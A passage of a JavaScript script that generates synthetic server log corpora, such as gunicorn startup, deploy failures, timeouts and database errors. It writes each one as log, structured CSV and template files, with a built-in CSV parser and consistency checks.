    F(c, 'ERROR', `${SP}/sqlalchemy/engine/base.py`, 1967, '_exec_single_context')
    X(
      c,
      't_sqla',
      'ERROR',
      'sqlalchemy.exc.OperationalError: (psycopg2.OperationalError) server closed the connection unexpectedly'
    )
    X(c, 't_prob1', 'ERROR', 'This probably means the server terminated abnormally', '\t')
    X(c, 't_prob2', 'ERROR', 'before or while processing the request.', '\t')
    X(
      c,
      't_sql',
      'ERROR',
      '[SQL: SELECT orders.id AS orders_id, orders.customer_id AS orders_customer_id, orders.status AS orders_status, orders.total_cents AS orders_total_cents FROM orders WHERE orders.id = %(pk_1)s]'
    )
    X(c, 't_params', 'ERROR', `[parameters: {'pk_1': ${oid}}]`)
    X(c, 't_background', 'ERROR', '(Background on this error at: https://sqlalche.me/e/20/e3q8)')
    access(c, 'GET', path, 500)
  }
  function connReset(c) {
    const pid = wpid(c)
    G(
      c,
      'g_error_handling',
      'ERROR',
      pid,
      `Error handling request ${c.r.pick(['/api/orders/export', '/api/orders/bulk', '/health'])}`
    )
    X(c, 't_traceback', 'ERROR', 'Traceback (most recent call last):')
    F(c, 'ERROR', `${SP}/gunicorn/workers/gthread.py`, 285, 'handle')
    F(c, 'ERROR', `${SP}/gunicorn/workers/gthread.py`, 342, 'handle_request')
    F(c, 'ERROR', `${SP}/gunicorn/http/wsgi.py`, 346, 'write')
    F(c, 'ERROR', `${SP}/gunicorn/util.py`, 299, 'write')
    X(c, 't_connreset', 'ERROR', 'ConnectionResetError: [Errno 104] Connection reset by peer')
  }
  function workerTimeout(c) {
    const pid = wpid(c)
    const p = `/api/reports/export?from=2025-02-01&format=xlsx`
    G(c, 'g_timeout', 'CRITICAL', 1, `WORKER TIMEOUT (pid:${pid})`)
    G(c, 'g_error_handling', 'ERROR', pid, `Error handling request ${p}`)
    X(c, 't_traceback', 'ERROR', 'Traceback (most recent call last):')
    F(c, 'ERROR', `${SP}/gunicorn/workers/gthread.py`, 285, 'handle')
    F(c, 'ERROR', `${SP}/gunicorn/workers/gthread.py`, 330, 'handle_request')
    F(c, 'ERROR', '/app/orders/reports.py', 112, 'export_orders')
    F(c, 'ERROR', `${SP}/gunicorn/workers/base.py`, 204, 'handle_abort')
    X(c, 't_systemexit', 'ERROR', 'SystemExit: 1')
    G(c, 'g_worker_exiting', 'INFO', pid, `Worker exiting (pid: ${pid})`)
    G(c, 'g_exited', 'ERROR', 1, `Worker (pid:${pid}) exited with code 1`)
    replaceWorker(c, pid)
  }
  function replaceWorker(c, pid) {
    const np = c.S.nextPid++
    c.S.workers = c.S.workers.map((w) => (w === pid ? np : w))
    G(c, 'g_booting', 'INFO', np, `Booting worker with pid: ${np}`)
  }
  function oom(c) {
    const pid = wpid(c)
    G(c, 'g_sigkill', 'ERROR', 1, `Worker (pid:${pid}) was sent SIGKILL! Perhaps out of memory?`)
    replaceWorker(c, pid)
  }
  function autorestart(c) {
    const pid = wpid(c)
    G(c, 'g_autorestart', 'INFO', pid, 'Autorestarting worker after current request.')
    G(c, 'g_worker_exiting', 'INFO', pid, `Worker exiting (pid: ${pid})`)
    replaceWorker(c, pid)
  }
  function startup(c) {
    G(c, 'g_starting', 'INFO', 1, 'Starting gunicorn 23.0.0')
    G(c, 'g_listening', 'INFO', 1, 'Listening at: http://0.0.0.0:8000 (1)')
    G(c, 'g_worker', 'INFO', 1, 'Using worker: gthread')
    c.S.nextPid = 7
    c.S.workers = []
    for (let i = 0; i < 4; i++) {
      const p = c.S.nextPid++
      c.S.workers.push(p)
      G(c, 'g_booting', 'INFO', p, `Booting worker with pid: ${p}`)
    }
    A(
      c,
      'a_cache',
      'INFO',
      'orders.catalog',
      `Cache warm: loaded ${c.r.int(4800, 5200)} products in ${f2(0.4 + c.r.next())}s`
    )
  }
  function stop(c, stuck) {
    G(c, 'g_signal', 'INFO', 1, 'Handling signal: term')
    for (const p of c.S.workers) {
      if (p === stuck) continue
      G(c, 'g_worker_exiting', 'INFO', p, `Worker exiting (pid: ${p})`)
    }
    if (stuck) G(c, 'g_graceful_timeout', 'WARNING', 1, `Worker graceful timeout (pid:${stuck})`)
    G(c, 'g_shutdown', 'INFO', 1, 'Shutting down: Master')
  }
  function badDeploy(c) {
    stop(c)
    c.tick(c.r.int(20000, 40000))
    G(c, 'g_starting', 'INFO', 1, 'Starting gunicorn 23.0.0')
    G(c, 'g_listening', 'INFO', 1, 'Listening at: http://0.0.0.0:8000 (1)')
    G(c, 'g_worker', 'INFO', 1, 'Using worker: gthread')
    G(c, 'g_booting', 'INFO', 7, 'Booting worker with pid: 7')
    G(c, 'g_exception_worker', 'ERROR', 7, 'Exception in worker process')
    X(c, 't_traceback', 'ERROR', 'Traceback (most recent call last):')
    F(c, 'ERROR', `${SP}/gunicorn/arbiter.py`, 608, 'spawn_worker')
    F(c, 'ERROR', `${SP}/gunicorn/workers/base.py`, 135, 'init_process')
    F(c, 'ERROR', `${SP}/gunicorn/workers/base.py`, 147, 'load_wsgi')
    F(c, 'ERROR', `${SP}/gunicorn/util.py`, 370, 'import_app')
    F(c, 'ERROR', '/usr/local/lib/python3.12/importlib/__init__.py', 90, 'import_module')
    F(c, 'ERROR', '/app/orders/wsgi.py', 3, '<module>')
    X(c, 't_modnotfound', 'ERROR', "ModuleNotFoundError: No module named 'orders.settings_prod'")
    G(c, 'g_worker_exiting', 'INFO', 7, 'Worker exiting (pid: 7)')
    G(c, 'g_exited', 'ERROR', 1, 'Worker (pid:7) exited with code 3')
    G(c, 'g_shutdown', 'INFO', 1, 'Shutting down: Master')
    G(c, 'g_reason', 'INFO', 1, 'Reason: Worker failed to boot.')
    c.tick(c.r.int(60000, 120000))
    startup(c)
  }
  return {
    name: 'gunicorn',
    start: Date.UTC(2025, 2, 11, 9, 0, 0),
    gap: (r) => r.int(50, 5000),
    intra: 12,
    templates: T,
    filler: plainReq,
    episodes: [
      { at: [0], run: startup },
      { at: [0.48], run: badDeploy },
      {
        at: [0.85],
        run: (c) => {
          stop(c, c.S.workers[2])
          c.tick(c.r.int(20000, 40000))
          startup(c)
        }
      },
      { w: 45, run: plainReq },
      { w: 14, run: health },
      { w: 9, run: createOrder },
      { w: 4, run: notFound },
      { w: 3, run: jwt },
      { w: 2.5, run: slow },
      {
        w: 1.5,
        run: (c) =>
          A(
            c,
            'a_pool',
            'WARNING',
            'orders.db',
            `DB pool exhausted, waited ${f2(1 + c.r.next() * 4)}s for a connection`
          )
      },
      { n: 2, run: dbError },
      { n: 2, run: connReset },
      { n: 2, run: workerTimeout },
      { n: 1, run: oom },
      { n: 3, run: autorestart }
    ]
  }
}

// ---------------------------------------------------------------------------------------------
// Output and checks.

const csvField = (s) => (/[",\r\n]/.test(s) ? `"${s.replace(/"/g, '""')}"` : s)
const csvRow = (fields) => fields.map((f) => csvField(String(f))).join(',')

// RFC 4180 reader, for the check.
function parseCsv(text) {
  const rows = []
  let row = []
  let f = ''
  let i = 0
  let quoted = false
  let started = false
  while (i < text.length) {
    const ch = text[i]
    if (quoted) {
      if (ch === '"') {
        if (text[i + 1] === '"') {
          f += '"'
          i += 2
          continue
        }
        quoted = false
        i++
        continue
      }
      f += ch
      i++
      continue
    }
    if (ch === '"' && !started) {
      quoted = true
      started = true
      i++
    } else if (ch === ',') {
      row.push(f)
      f = ''
      started = false
      i++
    } else if (ch === '\n') {
      row.push(f)
      rows.push(row)
      row = []
      f = ''
      started = false
      i++
    } else if (ch === '"') {
      throw new Error('quote inside an unquoted field')
    } else {
      f += ch
      started = true
      i++
    }
  }
  if (quoted) throw new Error('unterminated quoted field')
  if (f !== '' || row.length) {
    row.push(f)
    rows.push(row)
  }
  return rows
}

function check(name, dir) {
  const fail = (m) => {
    throw new Error(`${name}: ${m}`)
  }
  const raw = readFileSync(join(dir, `${name}.log`))
  const text = new TextDecoder('utf-8', { fatal: true }).decode(raw)
  if (text.includes('\r')) fail('.log contains CR')
  if (!text.endsWith('\n')) fail('.log does not end with a newline')
  const lines = text.slice(0, -1).split('\n')
  const st = parseCsv(readFileSync(join(dir, `${name}_structured.csv`), 'utf8'))
  const tp_ = parseCsv(readFileSync(join(dir, `${name}_templates.csv`), 'utf8'))
  if (st[0].join(',') !== 'LineId,Level,EventId,EventTemplate') fail('bad structured header')
  if (tp_[0].join(',') !== 'EventId,EventTemplate,Occurrences') fail('bad templates header')
  const rows = st.slice(1)
  if (rows.length !== lines.length)
    fail(`${lines.length} log lines but ${rows.length} structured rows`)
  const tmap = new Map()
  for (const [id, tpl, n] of tp_.slice(1)) {
    if (tmap.has(id)) fail(`duplicate EventId ${id}`)
    if (!/^E\d+$/.test(id) || !/^\d+$/.test(n)) fail(`bad template row ${id}`)
    tmap.set(id, { tpl, n: Number(n), seen: 0 })
  }
  rows.forEach((row, i) => {
    if (row.length !== 4) fail(`structured row ${i + 1} has ${row.length} fields`)
    const [lineId, level, id, tpl] = row
    if (Number(lineId) !== i + 1) fail(`LineId ${lineId} at row ${i + 1}`)
    if (!LEVELS.includes(level)) fail(`bad level ${level}`)
    const t = tmap.get(id)
    if (!t) fail(`EventId ${id} not in templates`)
    if (t.tpl !== tpl) fail(`EventTemplate of ${id} differs between the CSVs`)
    t.seen++
  })
  for (const [id, t] of tmap)
    if (t.seen !== t.n) fail(`${id}: ${t.seen} rows but Occurrences ${t.n}`)
  return { lines: lines.length, templates: tmap.size, bytes: raw.length }
}

const SYSTEMS = [
  nginxAccess,
  nginxError,
  postgresql,
  lambdaNode,
  lambdaPython,
  ecsAgent,
  envoy,
  kubelet,
  springBoot,
  nodeExpress,
  redis,
  gunicorn
]

let total = 0
const summary = []
for (const make of SYSTEMS) {
  const sys = make()
  const { rows, templates } = runSystem(sys)
  const dir = join(OUT, sys.name)
  mkdirSync(dir, { recursive: true })
  const files = {
    [`${sys.name}.log`]: rows.map((r) => r.line).join('\n') + '\n',
    [`${sys.name}_structured.csv`]:
      [
        'LineId,Level,EventId,EventTemplate',
        ...rows.map((r) => csvRow([r.lineId, r.level, r.id, r.tpl]))
      ].join('\n') + '\n',
    [`${sys.name}_templates.csv`]:
      [
        'EventId,EventTemplate,Occurrences',
        ...templates.map((t) => csvRow([t.id, t.tpl, t.n]))
      ].join('\n') + '\n'
  }
  for (const [f, body] of Object.entries(files)) {
    writeFileSync(join(dir, f), body)
    total += Buffer.byteLength(body)
  }
  const res = check(sys.name, dir)
  const levels = {}
  for (const r of rows) levels[r.level] = (levels[r.level] ?? 0) + 1
  const counts = templates.map((t) => t.n)
  summary.push({
    system: sys.name,
    lines: res.lines,
    templates: res.templates,
    max: Math.max(...counts),
    rare: counts.filter((n) => n <= 3).length,
    logBytes: res.bytes,
    levels: Object.entries(levels)
      .map(([k, v]) => `${k}:${v}`)
      .join(' ')
  })
}
if (total > 3 * 1024 * 1024) throw new Error(`corpus is ${total} bytes, over 3 MiB`)
if (!process.argv.includes('--quiet')) {
  for (const s of summary)
    process.stdout.write(
      `${s.system.padEnd(14)} lines=${s.lines} templates=${String(s.templates).padStart(2)} max=${String(s.max).padStart(3)} rare(<=3)=${String(s.rare).padStart(2)} log=${s.logBytes}B  ${s.levels}\n`
    )
  process.stdout.write(`total ${total} bytes\n`)
}
